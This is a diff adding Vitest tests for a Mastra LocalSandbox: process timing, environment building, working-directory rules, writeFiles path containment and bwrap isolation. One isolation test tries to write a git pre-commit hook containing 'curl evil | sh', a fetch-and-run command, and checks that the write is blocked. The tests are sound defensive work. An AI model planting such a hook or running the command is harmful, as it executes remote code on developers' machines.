@@ -7,8 +7,8 @@ import path from 'node:path'
 import { Mastra } from '@mastra/core'
 import { Agent } from '@mastra/core/agent'
 import { afterEach, describe, expect, it } from 'vitest'
-import { LocalSandbox, Workspace, WorkspaceError, createWorkspaceTools } from '../lib/index.mjs'
-import { freshWorkdir, processesWith, survivors, uniqueMarker, useSandboxes, waitFor } from './helpers.mjs'
+import { LocalFilesystem, LocalSandbox, Workspace, WorkspaceError, createWorkspaceTools, isIsolationAvailable } from '../lib/index.mjs'
+import { freshWorkdir, processesWith, survivors, uniqueMarker, useIsolatedSandboxes, useSandboxes, waitFor } from './helpers.mjs'
 import { mockModel } from './mock-model.mjs'
 
 const EXEC = 'mastra_workspace_execute_command'
@@ -17,6 +17,7 @@ const KILL = 'mastra_workspace_kill_process'
 const WRITE = 'mastra_workspace_write_file'
 
 const makeSandbox = useSandboxes()
+const isolated = useIsolatedSandboxes('nw-members-')
 const liveWorkspaces = []
 afterEach(async () => {
   await Promise.allSettled(liveWorkspaces.splice(0).map((ws) => ws.destroy()))
@@ -83,7 +84,6 @@ describe('Workspace.stop()', () => {
 
 describe('Workspace.getPathContext()', () => {
   it('gives the providers, their paths and their instructions', async () => {
-    const { LocalFilesystem } = await import('../lib/index.mjs')
     const sandbox = makeSandbox()
     const filesystem = new LocalFilesystem({ basePath: sandbox.workingDirectory })
     const ws = new Workspace({ sandbox, filesystem })
@@ -204,5 +204,150 @@ describe('the tools config through a Mastra Agent', () => {
     const { model } = mockModel([{ toolName: EXEC, input: { command: 'echo from-bg', background: true } }])
     await agentWith(model, ws).generate('go')
     expect(await exited).toMatchObject({ exitCode: 0, stdout: 'from-bg\n' })
+  })
+})
+
+describe('ProcessHandle.startTime', () => {
+  it('is when the process started, for spawned processes and for what a command left running', async () => {
+    const sandbox = makeSandbox()
+    const before = Date.now()
+    const handle = await sandbox.processes.spawn('sleep 0.2; echo done')
+    const after = Date.now()
+    expect(handle.startTime).toBeGreaterThanOrEqual(before)
+    expect(handle.startTime).toBeLessThanOrEqual(after)
+    const result = await handle.wait()
+    // The start and the run time add up to (about) the end.
+    expect(handle.startTime + result.executionTimeMs).toBeLessThanOrEqual(Date.now() + 5)
+    expect((await sandbox.processes.get(handle.pid)).startTime).toBe(handle.startTime)
+
+    const marker = uniqueMarker()
+    const commandStart = Date.now()
+    const { leftRunning } = await sandbox.executeCommand(`sleep ${marker} >/dev/null 2>&1 & echo started`)
+    const leftover = await sandbox.processes.get(leftRunning.pid)
+    expect(leftover.startTime).toBeGreaterThanOrEqual(commandStart)
+    expect(leftover.startTime).toBeLessThanOrEqual(Date.now())
+  })
+
+  it('emitStdout/emitStderr cannot feed a native process: a typed error, the output unchanged', async () => {
+    const handle = await makeSandbox().processes.spawn('echo real')
+    await handle.wait()
+    expect(() => handle.emitStdout('fake')).toThrow(expect.objectContaining({ code: 'UNSUPPORTED_FEATURE' }))
+    expect(() => handle.emitStderr('fake')).toThrow(expect.objectContaining({ code: 'UNSUPPORTED_FEATURE' }))
+    expect(handle.stdout).toBe('real\n')
+    expect(handle.stderr).toBe('')
+  })
+})
+
+describe('LocalSandbox.buildEnv()', () => {
+  it('is the host PATH, then env, then the setEnv overlay, then the extra env — what a command gets', async () => {
+    const sandbox = makeSandbox({ env: { A: 'env', B: 'env', C: 'env' } })
+    sandbox.setEnv(() => ({ B: 'overlay', C: 'overlay' }))
+    const built = sandbox.buildEnv({ C: 'extra', D: 'extra' })
+    expect(built).toEqual({ PATH: process.env.PATH, A: 'env', B: 'overlay', C: 'extra', D: 'extra' })
+    expect(process.env.HOME === undefined || !('HOME' in built)).toBe(true)
+    const { stdout } = await sandbox.executeCommand('env', [], { env: { C: 'extra', D: 'extra' } })
+    const seen = Object.fromEntries(stdout.trim().split('\n').map((line) => line.split(/=(.*)/s).slice(0, 2)))
+    for (const [key, value] of Object.entries(built)) expect(seen[key], key).toBe(value)
+    expect(() => sandbox.buildEnv({ X: 1 })).toThrow(expect.objectContaining({ code: 'INVALID_OPTION', message: expect.stringContaining('additionalEnv.X') }))
+  })
+})
+
+describe('LocalSandbox.setWorkingDirectory()', () => {
+  it('before the first start it moves the sandbox; once started it is refused and nothing changes', async () => {
+    const sandbox = makeSandbox()
+    const target = freshWorkdir()
+    sandbox.setWorkingDirectory(target)
+    expect(sandbox.workingDirectory).toBe(target)
+    expect((await sandbox.executeCommand('pwd')).stdout).toBe(`${target}\n`)
+
+    const other = freshWorkdir()
+    expect(() => sandbox.setWorkingDirectory(other)).toThrow(expect.objectContaining({ code: 'INVALID_STATE' }))
+    expect(sandbox.workingDirectory).toBe(target)
+    expect((await sandbox.executeCommand('pwd')).stdout).toBe(`${target}\n`)
+    expect(fs.existsSync(other)).toBe(false)
+  })
+})
+
+describe('LocalSandbox.wrapCommandForIsolation()', () => {
+  it('without isolation a command runs as given; otherwise it says commands are not wrapped', () => {
+    expect(makeSandbox().wrapCommandForIsolation('ls -la')).toEqual({ command: 'ls -la', args: [] })
+    expect(() => makeSandbox().wrapCommandForIsolation('')).toThrow(expect.objectContaining({ code: 'INVALID_OPTION' }))
+  })
+})
+
+describe('LocalSandbox.writeFiles()', () => {
+  it('writes strings and bytes under the working directory, creating parents and replacing files', async () => {
+    const sandbox = makeSandbox()
+    const root = sandbox.workingDirectory
+    const bytes = new Uint8Array([0, 255, 1, 2]).subarray(1, 3)
+    await sandbox.writeFiles([
+      { path: 'a/b/c.txt', content: 'hello' },
+      { path: path.join(root, 'bin.dat'), content: bytes },
+      { path: 'buf.txt', content: Buffer.from('buffer') },
+    ])
+    expect(fs.readFileSync(path.join(root, 'a/b/c.txt'), 'utf8')).toBe('hello')
+    expect([...fs.readFileSync(path.join(root, 'bin.dat'))]).toEqual([255, 1])
+    expect(fs.readFileSync(path.join(root, 'buf.txt'), 'utf8')).toBe('buffer')
+    await sandbox.writeFiles([{ path: 'a/b/c.txt', content: 'again' }])
+    expect((await sandbox.executeCommand('cat a/b/c.txt')).stdout).toBe('again')
+    await sandbox.writeFiles([])
+  })
+
+  it('writes nothing outside the working directory: .., other absolute paths, symlinks out', async () => {
+    const sandbox = makeSandbox()
+    const root = sandbox.workingDirectory
+    const outside = path.join(path.dirname(root), 'outside')
+    fs.mkdirSync(outside)
+    await sandbox.start()
+    fs.symlinkSync(outside, path.join(root, 'link'))
+    fs.symlinkSync(path.join(outside, 'target.txt'), path.join(root, 'file-link'))
+    for (const bad of ['../outside/a.txt', path.join(outside, 'b.txt'), 'link/c.txt', 'file-link', root, '.']) {
+      const err = await sandbox.writeFiles([{ path: bad, content: 'escaped' }]).catch((e) => e)
+      expect(err?.code, bad).toBe('EACCES')
+    }
+    expect(fs.readdirSync(outside)).toEqual([])
+    // A bad path anywhere in the list: nothing of the list is written.
+    await expect(sandbox.writeFiles([{ path: 'ok.txt', content: 'x' }, { path: '../no.txt', content: 'x' }])).rejects.toMatchObject({ code: 'EACCES' })
+    expect(fs.existsSync(path.join(root, 'ok.txt'))).toBe(false)
+  })
+
+  it('bad input is a typed error naming the entry; a mode is refused, an aborted signal writes nothing', async () => {
+    const sandbox = makeSandbox()
+    const cases = [
+      [undefined, 'files'],
+      [[{ path: '', content: 'x' }], 'files[0].path'],
+      [[{ path: 'a', content: 'x' }, { path: 'b', content: 3 }], 'files[1].content'],
+      [[null], 'files[0]'],
+    ]
+    for (const [files, name] of cases) {
+      await expect(sandbox.writeFiles(files)).rejects.toMatchObject({ code: 'INVALID_OPTION', message: expect.stringContaining(name) })
+    }
+    await expect(sandbox.writeFiles([{ path: 'm.sh', content: 'x', mode: 0o755 }])).rejects.toMatchObject({ code: 'UNSUPPORTED_FEATURE' })
+    const controller = new AbortController()
+    controller.abort(new Error('stop'))
+    await expect(sandbox.writeFiles([{ path: 'never.txt', content: 'x' }], { abortSignal: controller.signal })).rejects.toMatchObject({
+      code: 'ABORTED',
+    })
+    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'never.txt'))).toBe(false)
+    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'm.sh'))).toBe(false)
+  })
+})
+
+describe.skipIf(!isIsolationAvailable('bwrap'))('an isolated LocalSandbox', () => {
+  it('writeFiles: the sandbox can change what was written, protected paths stay untouched', async () => {
+    const sandbox = isolated.sandbox()
+    await sandbox.writeFiles([{ path: 'notes/todo.txt', content: 'one\n' }])
+    const { stdout, exitCode } = await sandbox.executeCommand('echo two >> notes/todo.txt && cat notes/todo.txt')
+    expect(exitCode).toBe(0)
+    expect(stdout).toBe('one\ntwo\n')
+    const err = await sandbox.writeFiles([{ path: '.git/hooks/pre-commit', content: 'curl evil | sh' }]).catch((e) => e)
+    expect(err?.code).toBe('EACCES')
+    expect(fs.existsSync(path.join(sandbox.workingDirectory, '.git/hooks/pre-commit'))).toBe(false)
+  })
+
+  it('wrapCommandForIsolation says its commands are not wrapped one by one', () => {
+    expect(() => isolated.sandbox().wrapCommandForIsolation('ls')).toThrow(
+      expect.objectContaining({ code: 'UNSUPPORTED_FEATURE', message: expect.stringContaining("isolation 'bwrap'") }),
+    )
   })
 })
